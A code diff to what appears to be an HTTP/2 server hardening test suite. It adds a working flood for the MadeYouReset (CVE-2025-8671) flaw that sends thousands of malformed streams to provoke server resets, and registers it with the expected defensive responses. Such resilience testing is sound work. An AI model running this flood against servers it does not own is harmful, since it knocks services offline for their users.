@@ -114,12 +114,12 @@ class Peer:
                 return
             self.received += more
 
-    def outcome(self, seconds: float = WAIT_SECONDS) -> str:
+    def outcome(self, seconds: float = WAIT_SECONDS, *, passes_resets: bool = False) -> str:
         """How the server ended what was wrong: `GOAWAY code`, `RST_STREAM code`, `closed`, or `nothing`."""
         for kind, _, _, payload in self.frames(seconds):
             if kind == GOAWAY:
                 return f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
-            if kind == RST_STREAM:
+            if kind == RST_STREAM and not passes_resets:
                 return f"RST_STREAM {int.from_bytes(payload[:4], 'big')}"
         return "closed" if self.is_over else "nothing"
 
@@ -161,6 +161,32 @@ def rapid_reset(target: Target) -> Iterator[str]:
         return request + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
 
     return flood(target, pieces)
+
+
+def made_resets(target: Target) -> Iterator[str]:
+    """MadeYouReset (CVE-2025-8671): request after request, each with a fault for which the server resets its stream."""
+
+    def overflow(stream: int) -> bytes:
+        request = frame(HEADERS, END_STREAM | END_HEADERS, stream, block())
+        return request + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
+
+    def wrong_length(stream: int) -> bytes:
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + field(b"content-length", b"5"))
+
+    def malformed(stream: int) -> bytes:
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + field(b"X", b"1"))
+
+    def subscription(stream: int) -> bytes:
+        request = block(b"/v1/topics/com.example.attack/wakes", b"GET")
+        overflow = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
+        return frame(HEADERS, END_STREAM | END_HEADERS, stream, request) + overflow
+
+    for request in (overflow, wrong_length, malformed, subscription):
+        with peer(target) as attacker:
+            for start in range(0, 20_000, 500):
+                if not attacker.send(b"".join(request(index * 2 + 1) for index in range(start, start + 500))):
+                    break
+            yield attacker.outcome(passes_resets=True)
 
 
 def continuations(target: Target) -> Iterator[str]:
@@ -364,6 +390,7 @@ CALM = (f"GOAWAY {ENHANCE_YOUR_CALM}", "closed")
 OPEN = frame(HEADERS, END_HEADERS, 1, block())
 ATTACKS = [
     Attack("rapid-reset", rapid_reset, CALM),
+    Attack("made-you-reset", made_resets, CALM),
     Attack("continuation-flood", continuations, CALM),
     Attack("endless-trailers", endless_trailers, CALM),
     Attack("trailers-again", trailers_again, (f"RST_STREAM {PROTOCOL_ERROR}", *CALM)),
